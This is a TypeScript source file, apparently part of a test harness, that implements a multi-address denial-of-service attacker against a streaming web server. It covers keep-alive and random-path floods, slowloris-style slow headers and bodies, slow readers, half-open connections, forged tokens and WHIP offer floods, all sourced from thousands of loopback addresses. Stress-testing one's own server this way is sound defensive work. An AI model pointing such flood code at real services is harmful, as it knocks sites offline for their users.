/**
 * Attackers from many addresses of the loopback: `node attacker.ts KIND URL SLUG CONNECTIONS [FIRST PER_NETWORK]`. Each
 * connection goes on as fast as it is answered. Ended by SIGTERM it prints what it did. The kinds are those of
 * `KINDS`; they do what public tools do (ab, hulk, slowloris, R-U-Dead-Yet, slow read), from one program so that they can
 * come from thousands of addresses.
 */
import { connect, type Socket } from 'node:net';
import { addressOf } from './addresses.ts';

const [kind = '', url = '', slug = '', connections = '300', first = '64', perNetwork = '10'] =
  process.argv.slice(2);
const { hostname, port } = new URL(url);
/** Different addresses that are used. */
const ADDRESSES = 5_000;

interface Done {
  opened: number;
  requests: number;
  bytes: number;
  /** Closed by the server. */
  closed: number;
  open: number;
  answers: Record<string, number>;
}
const done: Done = { opened: 0, requests: 0, bytes: 0, closed: 0, open: 0, answers: {} };
const BEGAN = performance.now();
/** How long the server let connections stay, ms. */
const held: number[] = [];
let turn = 0;

const AGENT = 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0';
const head = (method: string, path: string, more = ''): string => {
  done.requests += 1;
  return `${method} ${path} HTTP/1.1\r\nHost: ${hostname}\r\nUser-Agent: ${AGENT}\r\n${more}\r\n`;
};
const chance = (): string => Math.random().toString(36).slice(2);
const post = (path: string, body: string, type: string, more = ''): string =>
  head('POST', path, `Content-Type: ${type}\r\nContent-Length: ${body.length}\r\n${more}`) + body;

interface Kind {
  readonly what: string;
  /** What is sent on a new connection; undefined: nothing. */
  begin(): string | undefined;
  /** What is sent after an answer; without it the connection is closed and another opened. */
  again?(): string;
  /** Sends this a little at a time, a second apart. */
  drip?(): string;
  /** Closed after this many bytes and opened again. */
  readonly enough?: number;
  /** Never reads. */
  readonly deaf?: true;
}

const page = (): string => head('GET', `/r/${slug}`);
const random = (): string => head('GET', `/${chance()}/${chance()}?${chance()}=${chance()}&_=${Date.now()}`);
const forged = (): string =>
  head(
    'GET',
    `/r/${slug}/stream?after=${Math.floor(Math.random() * 1e6)}&session=${chance()}.${chance()}&ticket=${chance()}`,
  );
const beacon = (): string =>
  post(
    `/r/${slug}/beacon`,
    JSON.stringify({ v: 1, session: chance(), seq: 1, heard: 30_000, tag: chance() }),
    'text/plain',
  );
const whip = (): string =>
  post(
    `/r/${slug}/whip`,
    `v=0\r\no=- ${Date.now()} 1 IN IP4 127.0.0.1\r\ns=-\r\nt=0 0\r\n${'a=x\r\n'.repeat(400)}`,
    'application/sdp',
    `Authorization: Bearer ${chance()}${chance()}\r\n`,
  );

/** The kinds of attack, in the order of the table. */
export const KINDS: Readonly<Record<string, Kind>> = {
  keepalive: { what: 'keep-alive flood of the page', begin: page, again: page },
  random: { what: 'random addresses and queries', begin: random, again: random },
  joins: { what: 'join and leave', begin: () => head('GET', `/r/${slug}/stream`), enough: 2_000 },
  'slow-heads': {
    what: 'slow heads',
    begin: () => `GET /r/${slug} HTTP/1.1\r\nHost: x\r\n`,
    drip: () => `X-${chance()}: 1\r\n`,
  },
  'slow-bodies': {
    what: 'slow bodies',
    begin: () => head('POST', '/api/rooms', 'Content-Type: application/json\r\nContent-Length: 60000\r\n'),
    drip: () => 'a',
  },
  'slow-readers': {
    what: 'slow readers of the stream',
    begin: () => head('GET', `/r/${slug}/stream`),
    deaf: true,
    // Somebody who never reads learns of the end only by writing.
    drip: () => '\r\n',
  },
  'half-open': { what: 'connections that say nothing', begin: () => undefined },
  tokens: { what: 'forged tokens and tickets', begin: forged, enough: 1 },
  beacons: { what: 'beacons', begin: beacon, again: beacon },
  whip: { what: 'WHIP offers with forged tokens', begin: whip, again: whip },
};

const chosen = KINDS[kind];
if (!chosen) throw new Error(`no such attack: ${kind}; there are ${Object.keys(KINDS).join(', ')}`);
const attack: Kind = chosen;
let over = false;

function open(): void {
  if (over) return;
  turn += 1;
  const began = performance.now();
  const socket: Socket = connect({
    host: hostname,
    port: Number(port),
    localAddress: addressOf(Number(first), turn % ADDRESSES, Number(perNetwork)),
  });
  let heard = 0;
  let drip: NodeJS.Timeout | undefined;
  let connected = false;
  socket.on('connect', () => {
    connected = true;
    done.opened += 1;
    done.open += 1;
    const words = attack.begin();
    if (words !== undefined) socket.write(words);
    if (attack.drip) drip = setInterval(() => socket.write(attack.drip?.() ?? ''), 1_000);
    if (attack.deaf) socket.pause();
  });
  if (!attack.deaf)
    socket.on('data', (chunk: Buffer) => {
      done.bytes += chunk.length;
      heard += chunk.length;
      if (chunk.toString('latin1', 0, 5) === 'HTTP/') {
        const status = chunk.toString('latin1', 9, 12);
        done.answers[status] = (done.answers[status] ?? 0) + 1;
        if (attack.again) socket.write(attack.again());
      }
      if (attack.enough !== undefined && heard >= attack.enough) socket.destroy();
    });
  socket.on('error', (error: NodeJS.ErrnoException) => {
    const code = error.code ?? 'error';
    done.answers[code] = (done.answers[code] ?? 0) + 1;
  });
  socket.on('close', () => {
    clearInterval(drip);
    if (connected) done.open -= 1;
    if (!over) {
      done.closed += 1;
      held.push(performance.now() - began);
      if (held.length > 20_000) held.splice(0, 10_000);
    }
    // As fast as a tool goes, but a refused connection must not become a busy loop of this program.
    setTimeout(open, connected ? 0 : 100);
  });
}
const all = Number(connections);
/** Opened over some seconds: the queue of the kernel is not what is attacked. */
let started = 0;
const ramp = setInterval(() => {
  for (let i = 0; i < Math.max(10, all / 50) && started < all; i += 1, started += 1) open();
  if (started >= all) clearInterval(ramp);
}, 100);

// Sockets that are not read keep no process alive.
const awake = setInterval(() => {}, 60_000);
process.on('SIGTERM', () => {
  clearInterval(awake);
  over = true;
  const sorted = held.toSorted((a, b) => a - b);
  const at = (share: number): number => Math.round(sorted[Math.floor(sorted.length * share)] ?? Number.NaN);
  const seconds = (performance.now() - BEGAN) / 1_000;
  const told = JSON.stringify({ ...done, seconds, held: [at(0.5), at(0.95), at(0.99)] });
  process.stdout.write(`${told}\n`, () => process.exit(0));
});
